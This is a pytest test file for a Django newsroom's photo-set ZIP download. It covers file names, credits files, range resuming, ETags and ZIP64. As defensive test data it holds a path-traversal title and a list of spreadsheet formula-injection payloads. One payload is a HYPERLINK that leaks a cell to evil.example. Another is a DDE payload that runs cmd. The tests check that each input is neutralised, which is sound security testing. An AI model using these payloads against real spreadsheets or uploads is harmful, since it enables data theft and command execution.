"""A whole photo set as one ZIP, as a journalist's browser and unzip tools receive it."""

import csv
import io
import logging
import socket
import subprocess
import time
import zipfile
from datetime import timedelta
from urllib.parse import urlsplit

import pyexiv2
import pytest
import time_machine
from django.core.files.storage import FileSystemStorage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from media.models import Photo, Rendition, Visibility, ZipDownloadCount
from newsroom.ground.models import Newsroom
from tests.factories import body, jpeg_bytes, make_photo, make_photo_set, make_release


@pytest.fixture
def photo_set(newsroom):
    photo_set = make_photo_set(newsroom, title="Hankook 12h Hockenheimring", slug="hockenheim")
    for n, title in enumerate(
        ["Podium", "Podium", "../../etc/passwd", 'a/b\\c:d*?"<>|', "Bäckman på pallen"]
    ):
        make_photo(
            photo_set,
            data=jpeg_bytes(1200 + n, 800, colour=(n * 40, 80, 120)),
            title=title,
            caption=f"Caption {n}",
            credit="24H SERIES",
            position=n,
        )
    return photo_set


def zip_url(photo_set, size="web"):
    return reverse("media:photoset-zip", args=[photo_set.pk, size])


def test_the_zip_is_valid_and_lists_every_photo_with_its_credit(client, photo_set, tmp_path):
    response = client.get(zip_url(photo_set))
    data = body(response)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert int(response["Content-Length"]) == len(data)
    assert "attachment" in response["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.testzip() is None
    names = archive.namelist()
    assert names == [
        "01 Podium.jpg",
        "02 Podium.jpg",
        "03 etc passwd.jpg",
        "04 a b c d.jpg",
        "05 Bäckman på pallen.jpg",
        "CREDITS.txt",
        "credits.csv",
    ]
    assert all(info.compress_type == zipfile.ZIP_STORED for info in archive.infolist())
    renditions = {photo.pk: photo.renditions.get(size="web") for photo in photo_set.photos.all()}
    for name, rendition in zip(names, renditions.values(), strict=False):
        with rendition.file.open("rb") as handle:
            assert archive.read(name) == handle.read()
    credits = archive.read("CREDITS.txt").decode()
    for name in names[:5]:
        assert name in credits
    assert credits.count("Credit: 24H SERIES") == 5
    assert "License: Free to use with credit" in credits
    rows = list(csv.DictReader(io.StringIO(archive.read("credits.csv").decode("utf-8-sig"))))
    assert [row["file"] for row in rows] == names[:5]
    assert rows[4]["title"] == "Bäckman på pallen" and rows[4]["credit"] == "24H SERIES"
    path = tmp_path / "set.zip"
    path.write_bytes(data)
    assert subprocess.run(["unzip", "-t", str(path)], capture_output=True).returncode == 0


def test_print_size_holds_the_originals(client, photo_set):
    archive = zipfile.ZipFile(io.BytesIO(body(client.get(zip_url(photo_set, "print")))))
    photo = photo_set.photos.first()

    with photo.renditions.get(size="original").file.open("rb") as handle:
        assert archive.read("01 Podium.jpg") == handle.read()


def test_head_and_conditional_requests(client, photo_set):
    get = client.get(zip_url(photo_set))
    length = len(body(get))
    head = client.head(zip_url(photo_set))
    again = client.get(zip_url(photo_set), headers={"If-None-Match": get["ETag"]})

    assert head.status_code == 200 and head.content == b""
    assert int(head["Content-Length"]) == length
    assert again.status_code == 304


def test_zip_downloads_are_counted_per_set_and_size(client, photo_set):
    body(client.get(zip_url(photo_set)))
    body(client.get(zip_url(photo_set)))
    body(client.get(zip_url(photo_set, "print")))
    client.head(zip_url(photo_set))

    counts = dict(photo_set.zip_download_counts.values_list("size", "count"))
    assert counts == {"web": 2, "print": 1}


@pytest.mark.parametrize("state", ["private", "draft-release", "embargoed-release"])
def test_hidden_sets_have_no_zip(editor_client, newsroom, photo_set, state):
    client = Client()
    if state == "private":
        photo_set.visibility = Visibility.PRIVATE
        photo_set.save()
    else:
        photo_set.visibility = Visibility.WITH_RELEASE
        photo_set.save()
        release = make_release(
            newsroom, status="draft" if state == "draft-release" else "published"
        )
        if state == "embargoed-release":
            release.publish_at = timezone.now() + timedelta(hours=2)
            release.save()
        release.photo_sets.add(photo_set)

    for size in ("web", "print"):
        assert client.get(zip_url(photo_set, size)).status_code == 404
        assert client.head(zip_url(photo_set, size)).status_code == 404
    preview = editor_client.get(zip_url(photo_set))
    assert preview.status_code == 200 and "no-store" in preview["Cache-Control"]
    assert not ZipDownloadCount.objects.exists()


def test_unknown_sizes_and_sets_are_404(client, photo_set):
    assert client.get(zip_url(photo_set, "original")).status_code == 404
    assert (
        client.get(reverse("media:photoset-zip", args=[photo_set.pk + 99, "web"])).status_code
        == 404
    )


def test_a_set_with_photos_still_being_made_says_so(client, newsroom):
    photo_set = make_photo_set(newsroom)
    make_photo(photo_set, title="Ready")
    make_photo(photo_set, title="Not yet", renditions=False)

    archive = zipfile.ZipFile(io.BytesIO(body(client.get(zip_url(photo_set)))))

    assert archive.namelist() == ["01 Ready.jpg", "CREDITS.txt", "credits.csv"]
    assert "1 more photo(s) are still being prepared" in archive.read("CREDITS.txt").decode()


def test_the_download_stops_when_the_client_leaves(live_server, transactional_db, caplog):
    newsroom = Newsroom.objects.create(name="Team", slug="team")
    photo_set = make_photo_set(newsroom)
    # Far more than the sockets can buffer (forty noise photos, over 100 MB), so the
    # server is still sending when the client goes.
    noise = io.BytesIO()
    Image.merge("RGB", [Image.effect_noise((2400, 1600), 120)] * 3).save(
        noise, "JPEG", quality=100
    )
    template = make_photo(photo_set, data=noise.getvalue())
    web = template.renditions.get(size="web")
    copy_rows(Photo, template, [{"position": n, "sha256": f"{n:064x}"} for n in range(1, 40)])
    copies = Photo.objects.filter(photo_set=photo_set).exclude(pk=template.pk)
    copy_rows(Rendition, web, [{"photo_id": pk} for pk in copies.values_list("pk", flat=True)])
    url = urlsplit(live_server.url + zip_url(photo_set))
    assert Rendition.objects.filter(photo__photo_set=photo_set, size="web").count() == 40

    with caplog.at_level(logging.INFO, logger="media.downloads"):
        connection = socket.create_connection((url.hostname, url.port))
        connection.sendall(f"GET {url.path} HTTP/1.1\r\nHost: {url.netloc}\r\n\r\n".encode())
        assert b"200 OK" in connection.recv(65536)
        connection.close()
        for _ in range(100):
            if "stopped after" in caplog.text:
                break
            time.sleep(0.1)

    assert "the client left" in caplog.text


def test_more_than_65535_entries_make_a_zip64_archive(client, newsroom):
    """Past 65,535 entries the classic ZIP format runs out of numbers."""
    photo_set = make_photo_set(newsroom)
    template = make_photo(photo_set, data=jpeg_bytes(8, 8), title="Tiny")
    web = template.renditions.get(size="web")
    # Rows written straight to the tables: the ORM would spend half a minute building them.
    # Each row stands for a file of its own (a set holds a file once).
    copy_rows(Photo, template, [{"position": n, "sha256": f"{n:064x}"} for n in range(1, 65_536)])
    new_photos = Photo.objects.filter(photo_set=photo_set).exclude(pk=template.pk)
    copy_rows(Rendition, web, [{"photo_id": pk} for pk in new_photos.values_list("pk", flat=True)])

    response = client.get(zip_url(photo_set))
    data = body(response)

    assert int(response["Content-Length"]) == len(data)
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert len(archive.infolist()) == 65_536 + 2
    assert archive.namelist()[-3] == "65536 Tiny.jpg"
    assert data.rfind(b"PK\x06\x06") > 0  # the ZIP64 end of central directory


def copy_rows(model, original, changes):
    """Insert copies of `original`, each with its own `changes`, in one statement."""
    fields = [field for field in model._meta.concrete_fields if not field.primary_key]
    columns = ", ".join(connection.ops.quote_name(field.column) for field in fields)
    placeholders = ", ".join(["%s"] * len(fields))
    table = connection.ops.quote_name(model._meta.db_table)
    rows = []
    for change in changes:
        values = []
        for field in fields:
            value = change.get(field.attname, getattr(original, field.attname))
            values.append(field.get_db_prep_save(value, connection))
        rows.append(values)
    with connection.cursor() as cursor:
        sql = f"INSERT INTO {table} ({columns}) VALUES ({placeholders})"  # noqa: S608 (names from _meta)
        cursor.executemany(sql, rows)
        if connection.vendor == "postgresql":
            # Tens of thousands of rows at once, with statistics from when the table
            # held a few (autovacuum may have run after earlier tests): the planner
            # would join them row by row, for minutes. Statistics as a site has them.
            cursor.execute(f"ANALYZE {table}")


def test_the_same_set_gives_the_same_bytes_and_a_strong_etag(client, photo_set):
    first = client.get(zip_url(photo_set))
    with time_machine.travel(timezone.now() + timedelta(hours=3)):
        later = client.get(zip_url(photo_set))

    assert body(first) == body(later)
    assert first["ETag"] == later["ETag"] and not first["ETag"].startswith("W/")
    assert first["Accept-Ranges"] == "bytes"


def test_a_download_cut_in_the_middle_resumes_to_the_same_bytes(client, photo_set, tmp_path):
    whole_response = client.get(zip_url(photo_set))
    whole, etag = body(whole_response), whole_response["ETag"]
    for cut in (1, 30, len(whole) // 3, len(whole) // 2, len(whole) - 22, len(whole) - 1):
        resumed = client.get(
            zip_url(photo_set), headers={"Range": f"bytes={cut}-", "If-Range": etag}
        )
        assert resumed.status_code == 206
        assert resumed["Content-Range"] == f"bytes {cut}-{len(whole) - 1}/{len(whole)}"
        rest = body(resumed)
        assert int(resumed["Content-Length"]) == len(rest)
        assert whole[:cut] + rest == whole, cut
    middle = client.get(zip_url(photo_set), headers={"Range": "bytes=100-199"})
    assert body(middle) == whole[100:200]
    assert body(client.get(zip_url(photo_set), headers={"Range": "bytes=-22"})) == whole[-22:]

    path = tmp_path / "resumed.zip"
    path.write_bytes(
        whole[: len(whole) // 2] + rest_from(client, photo_set, len(whole) // 2, etag)
    )
    assert subprocess.run(["unzip", "-t", str(path)], capture_output=True).returncode == 0
    archive = zipfile.ZipFile(path)
    assert archive.testzip() is None
    assert len(archive.namelist()) == 7
    # Only the first request of a download counts.
    assert dict(photo_set.zip_download_counts.values_list("size", "count")) == {"web": 1}


def rest_from(client, photo_set, start, etag):
    response = client.get(
        zip_url(photo_set), headers={"Range": f"bytes={start}-", "If-Range": etag}
    )
    assert response.status_code == 206
    return body(response)


def test_a_changed_set_is_sent_whole_and_ranges_outside_get_416(client, photo_set):
    first = client.get(zip_url(photo_set))
    etag, length = first["ETag"], int(first["Content-Length"])
    photo = photo_set.photos.first()
    photo.title = "Renamed"
    photo.save()

    changed = client.get(zip_url(photo_set), headers={"Range": "bytes=100-", "If-Range": etag})
    outside = client.get(zip_url(photo_set), headers={"Range": f"bytes={length + 10_000}-"})

    assert changed.status_code == 200 and changed["ETag"] != etag
    assert zipfile.ZipFile(io.BytesIO(body(changed))).testzip() is None
    assert outside.status_code == 416
    assert outside["Content-Range"].startswith("bytes */")


def test_a_range_reads_no_file_before_it(client, photo_set, monkeypatch):
    whole = body(client.get(zip_url(photo_set)))
    last = photo_set.photos.last().renditions.get(size="web")
    opened = []
    original_open = FileSystemStorage.open

    def recording_open(storage, name, mode="rb"):
        opened.append(name)
        return original_open(storage, name, mode)

    monkeypatch.setattr(FileSystemStorage, "open", recording_open)
    tail = body(client.get(zip_url(photo_set), headers={"Range": f"bytes={len(whole) - 2000}-"}))

    assert tail == whole[-2000:]
    assert opened == [last.file.name]  # the last photo's end and the credits, nothing before


# credits.csv opened in a spreadsheet --------------------------------------------------


def credits_rows(client, photo_set):
    archive = zipfile.ZipFile(io.BytesIO(body(client.get(zip_url(photo_set)))))
    return list(csv.DictReader(io.StringIO(archive.read("credits.csv").decode("utf-8-sig"))))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_no_cell_of_credits_csv_runs_as_a_formula(client, newsroom):
    photo_set = make_photo_set(newsroom, title="Hockenheim", slug="hockenheim")
    for n, formula in enumerate(FORMULAS):
        make_photo(photo_set, title=f"Photo {n}", caption=formula, credit=formula, position=n)
    make_photo(photo_set, title="Plain", caption="Third at Hockenheim – a podium", position=99)

    rows = credits_rows(client, photo_set)

    assert [row["caption"] for row in rows] == [f"'{f}" for f in FORMULAS] + [
        "Third at Hockenheim – a podium"
    ]
    assert [row["credit"] for row in rows[: len(FORMULAS)]] == [f"'{f}" for f in FORMULAS]
    assert rows[-1]["width"] == "600" and rows[-1]["title"] == "Plain"


def test_a_formula_in_the_iptc_credit_of_an_uploaded_file_is_neutralised(
    client, editor_client, newsroom, django_capture_on_commit_callbacks
):
    photo_set = make_photo_set(newsroom, title="Agency photos", slug="agency")
    with pyexiv2.ImageData(jpeg_bytes(800, 600)) as image:
        image.modify_iptc(
            {
                "Iptc.Envelope.CharacterSet": "\x1b%G",
                "Iptc.Application2.Credit": '=HYPERLINK("http://evil","x")',
                "Iptc.Application2.Caption": "@SUM(A1:A9)",
            }
        )
        agency_file = image.get_bytes()

    with django_capture_on_commit_callbacks(execute=True):  # the renditions' task
        response = editor_client.post(
            reverse("admin:media_photoset_upload", args=[photo_set.pk]),
            {"files": [SimpleUploadedFile("agency.jpg", agency_file, "image/jpeg")]},
            headers={"Accept": "application/json"},
        )

    assert response.json()["results"][0]["saved"]
    assert Photo.objects.get().credit == '=HYPERLINK("http://evil","x")'  # kept as written
    [row] = credits_rows(Client(), photo_set)
    assert row["credit"] == '\'=HYPERLINK("http://evil","x")'
    assert row["caption"] == "'@SUM(A1:A9)"
